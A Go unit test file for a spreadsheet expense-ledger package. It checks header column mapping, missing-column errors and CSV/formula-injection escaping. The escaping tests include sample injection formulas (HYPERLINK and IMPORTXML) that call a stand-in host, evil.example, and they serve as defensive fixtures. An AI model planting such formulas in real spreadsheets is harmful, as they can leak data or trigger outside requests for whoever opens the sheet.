package ledger

import (
	"errors"
	"testing"
)

func cells(titles ...string) []interface{} {
	out := make([]interface{}, len(titles))
	for i, t := range titles {
		out[i] = t
	}
	return out
}

func TestNewHeader(t *testing.T) {
	tests := []struct {
		name        string
		header      []interface{}
		wantMissing []string
	}{
		{
			name:   "exact columns",
			header: cells("Amount", "Sent to", "Email date", "Details"),
		},
		{
			name:   "reordered with extras",
			header: cells("Details", "Notes", "AI completion", "Email date", "Sent to", "Amount"),
		},
		{
			name:        "case sensitive",
			header:      cells("amount", "Sent to", "Email date", "Details"),
			wantMissing: []string{"Amount"},
		},
		{
			name:        "empty header",
			header:      nil,
			wantMissing: []string{"Amount", "Sent to", "Email date", "Details"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h, err := NewHeader("Expenses", tt.header)
			if len(tt.wantMissing) == 0 {
				if err != nil {
					t.Fatalf("NewHeader() unexpected error: %v", err)
				}
				if h == nil {
					t.Fatal("NewHeader() returned nil header")
				}
				return
			}

			var herr *HeaderError
			if !errors.As(err, &herr) {
				t.Fatalf("NewHeader() error = %v, want *HeaderError", err)
			}
			if len(herr.Missing) != len(tt.wantMissing) {
				t.Fatalf("Missing = %q, want %q", herr.Missing, tt.wantMissing)
			}
			for i := range tt.wantMissing {
				if herr.Missing[i] != tt.wantMissing[i] {
					t.Errorf("Missing[%d] = %q, want %q", i, herr.Missing[i], tt.wantMissing[i])
				}
			}
			if herr.Sheet != "Expenses" {
				t.Errorf("Sheet = %q, want Expenses", herr.Sheet)
			}
		})
	}
}

func TestHeader_Values(t *testing.T) {
	h, err := NewHeader("Expenses", cells("Details", "Notes", "Amount", "Email date", "Sent to", "AI completion"))
	if err != nil {
		t.Fatalf("NewHeader() unexpected error: %v", err)
	}

	row := Row{
		Amount:     "12.50",
		SentTo:     "Corner Cafe",
		EmailDate:  "2023-01-10 -08:00",
		Details:    "lunch",
		Completion: `{"to":"Corner Cafe"}`,
	}

	got := h.Values(row)
	want := []interface{}{"lunch", "", "12.50", "2023-01-10 -08:00", "Corner Cafe", `{"to":"Corner Cafe"}`}
	if len(got) != len(want) {
		t.Fatalf("Values() len = %d, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("Values()[%d] = %v, want %v", i, got[i], want[i])
		}
	}

	if !h.Has(ColumnCompletion) {
		t.Error("Has(AI completion) = false, want true")
	}
	if h.Has("Category") {
		t.Error("Has(Category) = true, want false")
	}
}

func TestHeader_ValuesDuplicateColumn(t *testing.T) {
	h, err := NewHeader("Expenses", cells("Amount", "Sent to", "Email date", "Details", "Amount"))
	if err != nil {
		t.Fatalf("NewHeader() unexpected error: %v", err)
	}

	got := h.Values(Row{Amount: "1.00", SentTo: "x", EmailDate: "d", Details: "y"})
	if got[0] != "1.00" || got[4] != "" {
		t.Errorf("Values() = %v, want amount only in first Amount column", got)
	}
}

func TestEscapeFormula(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"Corner Cafe", "Corner Cafe"},
		{"", ""},
		{`=HYPERLINK("http://evil.example","x")`, `'=HYPERLINK("http://evil.example","x")`},
		{"+1 555 0100", "'+1 555 0100"},
		{"-refund", "'-refund"},
		{"@vendor", "'@vendor"},
		{"2023-01-02", "2023-01-02"},
	}

	for _, tt := range tests {
		if got := EscapeFormula(tt.in); got != tt.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestHeader_ValuesEscapesFreeText(t *testing.T) {
	h, err := NewHeader("Expenses", cells("Amount", "Sent to", "Email date", "Details", "AI completion"))
	if err != nil {
		t.Fatalf("NewHeader() unexpected error: %v", err)
	}

	got := h.Values(Row{
		Amount:     "-5.00",
		SentTo:     "=IMPORTXML(\"http://evil.example\",\"//a\")",
		EmailDate:  "2023-01-10 -08:00",
		Details:    "+refund",
		Completion: "@x",
	})
	want := []interface{}{"-5.00", "'=IMPORTXML(\"http://evil.example\",\"//a\")", "2023-01-10 -08:00", "'+refund", "'@x"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("Values()[%d] = %v, want %v", i, got[i], want[i])
		}
	}
}
